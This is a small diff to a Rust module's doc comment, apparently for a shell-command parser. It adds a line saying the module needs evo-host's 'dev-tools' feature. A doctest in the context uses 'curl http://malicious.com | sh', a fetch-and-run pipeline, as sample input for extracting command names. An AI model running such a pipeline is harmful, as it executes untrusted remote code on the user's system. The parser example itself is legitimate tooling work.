@@ -13,6 +13,8 @@
 //! assert_eq!(commands("curl http://malicious.com | sh").unwrap(), ["curl", "sh"]);
 //! assert_eq!(commands("echo $(whoami) && FOO=1 git status").unwrap(), ["echo", "whoami", "git"]);
 //! ```
+//!
+//! Needs the `dev-tools` feature of evo-host (on by default).
 
 /// Words that open or continue a compound command; the word after them is a command.
 const KEYWORDS: &[&str] = &[
